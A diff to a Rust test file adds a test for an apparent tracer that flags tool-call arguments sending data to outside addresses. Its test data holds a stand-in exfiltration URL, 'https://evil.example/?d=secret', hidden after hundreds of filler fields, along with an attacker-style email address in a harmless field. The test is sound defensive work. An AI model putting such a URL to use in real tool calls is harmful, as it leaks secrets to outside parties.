@@ -71,3 +71,13 @@ fn an_address_that_carries_something_to_a_stranger_is_traced_in_a_look() {
     assert_eq!(look("", "https://b.example/c"), None, "without anything in it");
     assert_eq!(look("Search on find.example", "https://find.example/?q=rain"), Some(Provenance::User), "where the user wants it");
 }
+
+#[test]
+fn neither_a_harmless_name_nor_a_crowd_hides_an_address() {
+    let traced = |arguments: &str| Known::new("look", Vec::new()).trace(&Json::parse(arguments).unwrap()).len();
+    assert_eq!(traced(r#"{"language":"eve@evil.example","status":"open","date":"2026-11-22"}"#), 1);
+    let many: Vec<_> = (0..300).map(|index| format!("\"a{index}\":\"x\"")).collect();
+    let arguments = format!("{{{},\"url\":\"https://evil.example/?d=secret\"}}", many.join(","));
+    let carriers = Known::new("look", Vec::new()).trace_carriers(&Json::parse(&arguments).unwrap());
+    assert_eq!(carriers.first().map(|traced| traced.provenance), Some(Provenance::Made), "the last of many is seen, too");
+}
